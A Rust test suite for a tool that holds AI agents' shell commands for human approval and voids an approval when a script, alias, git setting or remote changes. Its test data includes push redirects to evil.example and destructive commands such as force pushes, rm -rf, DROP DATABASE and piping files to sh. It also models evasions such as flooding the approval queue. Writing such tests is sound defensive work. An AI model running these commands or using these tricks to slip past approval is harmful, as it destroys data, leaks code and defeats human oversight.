//! An approval is bound to everything that determines the call's effect: each input must be unchanged.

use crate::support::{Machine, Ran, at_terminal, bash, calls};
use serde_json::{Value, json};
use std::fs;
use std::path::PathBuf;

/// A machine with a real repository.
struct Here {
    machine: Machine,
    project: PathBuf,
}

impl Here {
    fn new() -> Here {
        let machine = Machine::new().asking();
        let project = machine.project();
        let here = Here { machine, project };
        here.git("init -q -b main .");
        here.git("config user.email a@b.example");
        here.git("config user.name a");
        here.git("remote add origin git@host.example:team/shop.git");
        here.put("README", "x\n");
        here.git("add .");
        here.git("commit -q -m x");
        here
    }

    fn git(&self, words: &str) {
        let line = format!("cd '{}' && git {words}", self.project.display());
        let output = self.machine.program("sh", ["-c", &line]).run();
        assert_eq!(output.code, 0, "{words}: {output:?}");
    }

    fn put(&self, path: &str, text: &str) {
        let file = if let Some(rest) = path.strip_prefix("~/") {
            self.machine.home().join(rest)
        } else {
            self.project.join(path)
        };
        fs::create_dir_all(file.parent().unwrap()).unwrap();
        fs::write(&file, text).unwrap();
        fs::set_permissions(&file, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    }

    fn call(&self, session: &str, command: &str) -> Ran {
        let mut payload: Value = serde_json::from_slice(&bash(&self.project, command)).unwrap();
        payload["session_id"] = session.into();
        self.machine.hook().input(payload.to_string()).run()
    }

    fn passes(&self, command: &str) -> bool {
        self.call("s1", command) == Ran::silence()
    }

    fn pending(&self) -> Vec<Value> {
        self.machine.reflex(["pending", "--json"]).run().json()["pending"].as_array().unwrap().clone()
    }

    /// Asserts that the call is stopped and returns its pending entry.
    #[track_caller]
    fn stopped(&self, command: &str) -> Value {
        let output = self.call("s1", command);
        assert_ne!(output, Ran::silence(), "nothing stops {command}");
        self.pending().into_iter().find(|call| call["text"] == command).unwrap()
    }

    /// Approves as a person and returns the preview; `None` without a terminal.
    #[track_caller]
    fn approve(&self, call: &Value) -> Option<String> {
        let (code, output) = at_terminal(&self.machine, &format!("approve {}", call["id"].as_str().unwrap()), "y\n")?;
        assert_eq!(code, 0, "{output}");
        Some(output)
    }
}

fn bound(call: &Value) -> Vec<String> {
    call["bound"].as_array().unwrap().iter().map(|one| one["shown"].as_str().unwrap().to_owned()).collect()
}

/// A stopped call is approved, then an input changes: the approval is void until the input is restored.
#[track_caller]
fn check(command: &str, shown: &str, before: &[(&str, &str)], change: impl Fn(&Here), back: impl Fn(&Here)) {
    let here = Here::new();
    before.iter().for_each(|(path, text)| here.put(path, text));
    let call = here.stopped(command);
    assert!(bound(&call).iter().any(|line| line.contains(shown)), "no {shown:?} in {:#?}", bound(&call));
    let Some(preview) = here.approve(&call) else { return };
    assert!(preview.contains(shown), "no {shown:?} in {preview}");
    change(&here);
    assert!(!here.passes(command), "{command} passes after the change");
    back(&here);
    assert!(here.passes(command), "{command} does not pass: {:#?}", here.pending());
    assert!(!here.passes(command), "{command} passes twice");
}

/// Same, where only a file changes.
#[track_caller]
fn check_file(command: &str, shown: &str, file: &str, text: &str) {
    let other = format!("{text}\n");
    check(command, shown, &[(file, text)], |here| here.put(file, &other), |here| here.put(file, text));
}

const PUSH: &str = "git push --force origin main";

#[test]
fn a_remote_that_leads_elsewhere_needs_a_new_yes() {
    let nothing: &[(&str, &str)] = &[];
    let at = "to git@host.example:team/shop.git";
    let set = |words: &'static str| move |here: &Here| here.git(words);
    let url = "remote set-url origin git@evil.example:x/y.git";
    check(PUSH, at, nothing, set(url), set("remote set-url origin git@host.example:team/shop.git"));
    let push = "remote set-url --add --push origin https://evil.example/x";
    check(PUSH, at, nothing, set(push), set("config --unset-all remote.origin.pushurl"));
    let rewritten = "config url.https://evil.example/.insteadOf git@host.example:";
    check(PUSH, at, nothing, set(rewritten), set("config --unset url.https://evil.example/.insteadOf"));
    let follows = "config branch.main.pushRemote elsewhere";
    check("git push --force", at, nothing, set(follows), set("config --unset branch.main.pushRemote"));
    let ssh = "config core.sshCommand './x'";
    check(PUSH, at, nothing, set(ssh), set("config --unset core.sshCommand"));
}

#[test]
fn a_push_of_other_commits_needs_a_new_yes() {
    let commit = |here: &Here| here.git("commit -q --allow-empty -m other");
    check(PUSH, "pushes main at ", &[], commit, |here| here.git("reset -q --hard HEAD~1"));
}

/// The call is approved with this scope, then it would destroy other work: the approval is void.
#[track_caller]
fn check_loss(command: &str, scope: &str, shown: &str, before: &str, meanwhile: &str) {
    let here = Here::new();
    let run = |line: &str| {
        let line = format!("cd '{}' && {line}", here.project.display());
        assert_eq!(here.machine.program("sh", ["-c", &line]).run().code, 0, "{line}");
    };
    run(before);
    let call = here.stopped(command);
    assert!(bound(&call).iter().any(|line| line.contains(shown)), "no {shown:?} in {:#?}", bound(&call));
    let line = format!("approve {} --scope {scope} --reason tested", call["id"].as_str().unwrap());
    let Some((code, output)) = at_terminal(&here.machine, &line, "y\n") else { return };
    assert!(code == 0 && output.contains(shown), "{output}");
    if meanwhile.is_empty() {
        return assert!(here.passes(command), "{command} does not pass: {:#?}", here.pending());
    }
    run(meanwhile);
    assert!(!here.passes(command), "{command} passes after {meanwhile}");
}

/// The approval is valid until an input changes.
#[track_caller]
fn check_losses(command: &str, shown: &str, before: &str, meanwhile: &[&str]) {
    for scope in ["once", "session"] {
        check_loss(command, scope, shown, before, "");
        meanwhile.iter().for_each(|other| check_loss(command, scope, shown, before, other));
    }
}

#[test]
fn work_that_is_lost_with_a_reset_is_what_the_person_saw() {
    let others = ["echo y >> README", "echo new > b && git add b", "git commit -q -m y README && echo z >> README"];
    check_losses("git reset --hard", "loses 1 file as now: README", "echo x >> README", &others);
    check_losses("git checkout -- .", "loses 1 file as now: README", "echo x >> README", &others[..1]);
    check_losses("git restore .", "loses 1 file as now: README", "echo x >> README", &others[..1]);
}

#[test]
fn what_a_clean_removes_is_what_the_person_saw() {
    check_losses(
        "git clean -fd",
        "loses 1 file as now: notes.md",
        "echo x > notes.md",
        &["echo y > notes.md", "echo y > b"],
    );
}

#[test]
fn a_stash_is_the_one_that_the_person_saw() {
    let stash = "echo x >> README && git stash -q";
    let newer = "echo y >> README && git stash push -q -m mine";
    for command in ["git stash drop", "git stash drop 'stash@{0}'", "git stash clear"] {
        check_losses(command, "loses the stash ", stash, &[newer]);
    }
}

#[test]
fn a_branch_is_deleted_with_the_commits_that_the_person_saw() {
    let commit = "git checkout -q -b topic && git commit -q --allow-empty -m a && git checkout -q main";
    let another = "git checkout -q topic && git commit -q --allow-empty -m b && git checkout -q main";
    check_losses("git branch -D topic", "loses topic at ", commit, &[another]);
}

#[test]
fn files_are_deleted_that_the_person_saw() {
    let made = "mkdir -p data/old && echo x > data/old/a.csv";
    let others =
        ["echo y > data/old/orders.csv", "echo y >> data/old/a.csv", "mkdir data/old/b && echo z > data/old/b/c"];
    check_losses("rm -rf data/old", "loses 1 file as now: data/old/", made, &others);
    check_losses("rm -rf data/*", "loses 1 file as now: data/", made, &others);
}

#[test]
fn a_rule_from_an_answer_holds_in_its_project_and_for_its_files() {
    let here = Here::new();
    for path in ["data/old/a.csv", "data/new.csv"] {
        here.put(path, "x\n");
    }
    let call = here.stopped("rm -rf data/old");
    let state = "delete data/old: 1 file in no commit";
    assert_eq!((&call["effects"], &call["risk"], &call["tool"]), (&json!([state]), &json!("high"), &json!("Bash")));
    let id = call["id"].as_str().unwrap();
    let allow = |words: &str| at_terminal(&here.machine, &format!("allow {id} {words}"), "y\n");
    let Some((code, output)) = allow("--until 2099-12-31") else { return };
    assert_eq!(code, 0, "{output}");
    let policy = fs::read_to_string(here.machine.home().join(".config/reflex/policy.yaml")).unwrap();
    let project = here.project.display();
    let entry = format!(
        "    path: [data/old, \"data/old/**\"]\n    in: {project}\n    until: \"2099-12-31\"\n    reason: allowed by {id}\n"
    );
    assert!(policy.contains("- argv: [rm]\n") && policy.contains(&entry), "{policy}");
    let another = here.call("s1", "rm -rf data/new.csv");
    assert_eq!(another.answer().0, "ask", "{another:?}");
    assert!(here.passes("rm -rf data/old"), "{policy}");
    let (code, output) = allow("--until 2020-01-01").unwrap();
    assert!(code == 64 && output.contains("is not a day to come"), "{output}");
}

#[test]
fn a_folder_outside_the_project_is_not_searched_to_describe_it() {
    let here = Here::new();
    let mut call = here.stopped("rm -rf ..");
    assert_eq!(call["effects"][0], format!("delete {}: a folder outside this project", here.machine.root().display()));
    call = here.stopped("rm -rf ../missing");
    assert_eq!(call["effects"][0], format!("delete {}/missing: does not exist", here.machine.root().display()));
}

#[test]
fn a_lasting_yes_to_a_forced_push_holds_for_own_commits_alone() {
    let here = Here::new();
    let run = |line: &str| {
        let line = format!("cd '{}' && {line}", here.project.display());
        assert_eq!(here.machine.program("sh", ["-c", &line]).run().code, 0, "{line}");
    };
    run("git init -q --bare ../o.git && git remote set-url origin ../o.git && git push -q origin main:topic");
    run("git checkout -q -b topic && git commit -q --amend -m y");
    let push = "git push --force origin topic";
    let call = here.stopped(push);
    let line = format!("approve {} --scope session --reason tested", call["id"].as_str().unwrap());
    let Some((code, output)) = at_terminal(&here.machine, &line, "y\n") else { return };
    assert_eq!(code, 0, "{output}");
    for message in ["a", "b"] {
        assert!(here.passes(push), "{:#?}", here.pending());
        run(push);
        run(&format!("git commit -q --amend -m {message}"));
    }
    run(
        "git clone -q -b topic ../o.git ../other && cd ../other && git config user.email c@d.example && git config user.name c && git commit -q --allow-empty -m theirs && git push -q origin topic",
    );
    run("git fetch -q");
    assert!(!here.passes(push), "what others pushed since is written over");
}

#[test]
fn a_hook_that_git_would_run_belongs_to_the_call() {
    let hook = ".git/hooks/pre-push";
    check_file(PUSH, "runs .git/hooks/pre-push (sha256 ", hook, "#!/bin/sh\nexit 0\n");
    let appears = |here: &Here| here.put(hook, "#!/bin/sh\nexit 0\n");
    check(PUSH, "git's settings", &[], appears, |here| fs::remove_file(here.project.join(hook)).unwrap());
    let elsewhere = |here: &Here| here.git("config core.hooksPath ci");
    check(PUSH, "git's settings", &[("ci/pre-push", "x")], elsewhere, |here| here.git("config --unset core.hooksPath"));
}

#[test]
fn an_alias_that_means_something_else_needs_a_new_yes() {
    let here = Here::new();
    here.git("config alias.out 'push --force origin main'");
    let call = here.stopped("git out");
    let Some(_) = here.approve(&call) else { return };
    here.git("config alias.out '!git push --force origin main; true'");
    assert!(!here.passes("git out"));
    here.git("config alias.out 'push --force origin main'");
    assert!(here.passes("git out"));
    here.put("~/.bashrc", "alias out='git push --force origin main'\n");
    let Some(_) = here.approve(&here.stopped("out")) else { return };
    here.put("~/.bashrc", "alias out='git push --force origin main; true'\n");
    assert!(!here.passes("out"));
}

#[test]
fn a_script_that_runs_must_be_the_one_that_was_shown() {
    let text = "#!/bin/sh\ngit push --force origin main\n";
    check_file("bash deploy.sh", "runs deploy.sh (sha256 ", "deploy.sh", text);
    check_file("./deploy.sh --now", "runs deploy.sh (sha256 ", "deploy.sh", text);
    check_file("cd ci && . ./deploy.sh", "runs ci/deploy.sh (sha256 ", "ci/deploy.sh", text);
    let python = "import os\nos.system('git push --force origin main')\n";
    check_file("python3 deploy.py", "runs deploy.py (sha256 ", "deploy.py", python);
    let node = "require('child_process').execSync('git push --force origin main')\n";
    check_file("node deploy.js", "runs deploy.js (sha256 ", "deploy.js", node);
    let outer = ("outer.sh", "sh inner.sh\n");
    let inner = |text: &'static str| move |here: &Here| here.put("inner.sh", text);
    let push_script = "git push --force origin main\n";
    let other = "git push --force origin main\n# x\n";
    check(
        "sh outer.sh",
        "runs inner.sh (sha256 ",
        &[outer, ("inner.sh", push_script)],
        inner(other),
        inner(push_script),
    );
}

#[test]
fn what_a_tool_reads_from_the_project_belongs_to_the_call() {
    check_file("make out", "follows Makefile (sha256 ", "Makefile", "out:\n\tgit push --force origin main\n");
    let package = r#"{"scripts": {"out": "git push --force origin main"}}"#;
    check_file("npm run out", "follows package.json (sha256 ", "package.json", package);
    check_file("just out", "follows justfile (sha256 ", "justfile", "out:\n    git push --force origin main\n");
    let first = |here: &Here| here.put("GNUmakefile", "out:\n\tgit push --force origin main\n");
    let makefile = ("Makefile", "out:\n\tgit push --force origin main\n");
    let remove_file = |here: &Here| fs::remove_file(here.project.join("GNUmakefile")).unwrap();
    check("make out", "Makefile", &[makefile], first, remove_file);
    check_file("terraform destroy -auto-approve", "goes by main.tf (", "main.tf", "resource \"a\" \"b\" {}\n");
    let volumes = "services: {}\nvolumes: {data: {}}\n";
    check_file("docker compose down -v", "goes by compose.yaml (", "compose.yaml", volumes);
    check_file("kubectl delete namespace prod", "goes by ~/.kube/config (", "~/.kube/config", "current-context: a\n");
    check_file("task out; git push --force origin main", "goes by Taskfile.yml (", "Taskfile.yml", "tasks: {}\n");
    check_file("cargo run; git push --force origin main", "goes by build.rs (", "build.rs", "fn main() {}\n");
}

#[test]
fn a_program_of_the_project_must_be_the_same() {
    let push_script = "#!/bin/sh\ngit push --force origin main\n";
    check_file("bin/tool", "runs bin/tool (sha256 ", "bin/tool", push_script);
    check_file("npx prisma migrate reset --force", "node_modules/.bin/prisma (", "node_modules/.bin/prisma", "x");
    let line = "PATH=tools:$PATH tool; git push --force origin main";
    check_file(line, "runs tools/tool (sha256 ", "tools/tool", "x");
}

#[test]
fn a_file_that_a_program_takes_orders_from_must_be_the_same() {
    check_file("psql -f drop.sql", "follows drop.sql (sha256 ", "drop.sql", "DROP DATABASE shop;\n");
    check_file("psql < drop.sql", "follows drop.sql (", "drop.sql", "DROP DATABASE shop;\n");
    check_file("kubectl delete -f x.yaml", "follows x.yaml (sha256 ", "x.yaml", "kind: Namespace\n");
    check_file("sh < x.txt", "x.txt (", "x.txt", "git push --force origin main\n");
    check_file("cat x.txt | sh", "x.txt (", "x.txt", "git push --force origin main\n");
    check_file("xargs -a list rm -rf", "list (", "list", "/srv/a\n");
    check_file("cat list | xargs rm -rf", "reads list (", "list", "/srv/a\n");
    check_file("rm -rf $(cat list)", "reads list (", "list", "/srv/a\n");
    check_file("curl -d @x.txt http://localhost:8080; git push --force", "x.txt (", "x.txt", "a\n");
}

#[test]
fn what_is_too_large_is_told_by_number_size_and_times() {
    let here = Here::new();
    let large = format!("git push --force origin main\n{}", "# x\n".repeat(400_000));
    here.put("large.sh", &large);
    let call = here.stopped("git push --force; sh large.sh");
    assert!(bound(&call).iter().any(|line| line.contains("large.sh (by number, size and times; ")), "{call:#}");
    let Some(_) = here.approve(&call) else { return };
    here.put("large.sh", &large);
    assert!(!here.passes("git push --force; sh large.sh"));
}

#[test]
fn what_nobody_could_hold_to_is_not_approved() {
    let here = Here::new();
    let pipe = here.project.join("pipe");
    assert_eq!(here.machine.program("mkfifo", [&pipe]).run().code, 0);
    let call = here.stopped("git push --force; sh < pipe");
    let id = call["id"].as_str().unwrap();
    let Some((code, output)) = at_terminal(&here.machine, &format!("approve {id}"), "y\n") else { return };
    assert!(code == 1 && output.contains("could not detect a change"), "{output}");
}

#[test]
fn a_person_is_told_when_the_script_has_changed_since() {
    let here = Here::new();
    here.put("deploy.sh", "git push --force origin main\n");
    let call = here.stopped("bash deploy.sh");
    here.put("deploy.sh", "git push --force origin main # x\n");
    let id = call["id"].as_str().unwrap();
    let explanation = here.machine.reflex(["why", id]).run().stdout;
    assert!(explanation.contains("as of    runs deploy.sh (sha256 "), "{explanation}");
    let Some((code, output)) = at_terminal(&here.machine, &format!("approve {id}"), "y\n") else { return };
    assert!(code == 1 && output.contains("deploy.sh has changed since this call was blocked"), "{output}");
}

#[test]
fn another_session_or_agent_does_not_use_a_yes() {
    let here = Here::new();
    let Some(_) = here.approve(&here.stopped(PUSH)) else { return };
    assert_ne!(here.call("s2", PUSH), Ran::silence(), "another session");
    let payload = json!({"session_id": "s1", "cwd": here.project, "hook_event_name": "PreToolUse", "tool_name": "Bash",
        "tool_input": {"command": PUSH}, "turn_id": "t", "permission_mode": "default"});
    let codex =
        here.machine.reflex(["hook", "--agent", "codex", "--event", "PreToolUse"]).input(payload.to_string()).run();
    assert_ne!(codex, Ran::silence(), "another agent");
    assert!(here.passes(PUSH));
    // With the repository's scope it is valid for every agent.
    let asked = "git push --force origin topic";
    let call = here.stopped(asked);
    let line = format!("approve {} --scope repository --reason tested", call["id"].as_str().unwrap());
    assert_eq!(at_terminal(&here.machine, &line, "y\n").unwrap().0, 0);
    assert_eq!(here.call("s2", asked), Ran::silence());
    let call = here.stopped("git push --force origin other");
    let line = format!("approve {} --scope session --reason tested", call["id"].as_str().unwrap());
    assert_eq!(at_terminal(&here.machine, &line, "y\n").unwrap().0, 0);
    assert_ne!(here.call("s2", "git push --force origin other"), Ran::silence());
    assert!(here.passes("git push --force origin other"));
}

#[test]
fn without_a_session_the_agent_and_the_project_must_be_the_same() {
    let here = Here::new();
    let other = here.machine.root().join("other");
    fs::create_dir_all(other.join(".git")).unwrap();
    let ask = |folder: &PathBuf| {
        let event = json!({"event": "pre-command", "command": "rm -rf /srv/x", "cwd": folder, "engine": "own"});
        here.machine.reflex(["hook", "--agent", "universal"]).input(event.to_string()).run().json()["decision"].clone()
    };
    assert_ne!(ask(&here.project), json!("allow"));
    let Some(_) = here.approve(&here.pending()[0]) else { return };
    assert_ne!(ask(&other), json!("allow"));
    assert_eq!(ask(&here.project), json!("allow"));
}

#[test]
fn the_same_call_keeps_the_id_that_a_person_has_read() {
    let here = Here::new();
    let first = here.stopped(PUSH)["id"].clone();
    assert_eq!(here.stopped(PUSH)["id"], first);
    assert_eq!(here.pending().len(), 1);
    let Some(_) = here.approve(&here.pending()[0]) else { return };
    assert!(here.passes(PUSH));
    assert_ne!(here.stopped(PUSH)["id"], first, "what was answered is another request");
}

#[test]
fn no_agent_pushes_a_call_off_the_list() {
    let here = Here::new();
    let first = here.stopped(PUSH)["id"].clone();
    for call in 0..45 {
        here.call("flood", &format!("git push --force origin x{call}"));
    }
    let waiting = here.pending().iter().filter(|call| call["session"] == "flood").count();
    assert_eq!(waiting, 40);
    assert!(here.pending().iter().any(|call| call["id"] == first));
    // A flood of calls does not evict entries that a person may have read; the newest is still listed.
    let of_flood =
        |name: &str| here.pending().iter().any(|call| call["text"] == format!("git push --force origin {name}"));
    assert!(of_flood("x0") && of_flood("x29") && !of_flood("x30") && of_flood("x44"));
    here.call("flood", "git push --force origin x0");
    for call in 45..60 {
        here.call("flood", &format!("git push --force origin x{call}"));
    }
    assert!(of_flood("x0") && of_flood("x59"), "what comes again keeps its place");
    // Invented session ids share the limit of their agent.
    let waiting = calls::waiting_files(&here.machine);
    let one = waiting.iter().find(|path| fs::read_to_string(path).unwrap().contains("\"flood\"")).unwrap();
    let name = one.file_name().unwrap().to_string_lossy().into_owned();
    let (_, rest) = name.split_once('-').unwrap();
    let session = rest.split('-').nth(1).unwrap();
    for made_up in 0..159 {
        let rest = rest.replacen(session, &format!("{made_up:012}"), 1);
        fs::copy(one, one.with_file_name(format!("x{made_up}-{rest}"))).unwrap();
    }
    assert_eq!(calls::waiting_files(&here.machine).len(), 200);
    let output = here.call("late", "git push --force origin y").answer().1;
    assert!(!output.contains("reflex approve"), "{output}");
    assert!(here.pending().iter().all(|call| call["session"] != "late"), "who is on the list stays on it");
    assert!(here.pending().iter().any(|call| call["id"] == first));
    assert_eq!(here.stopped(PUSH)["id"], first, "who is on the list stays on it");
}
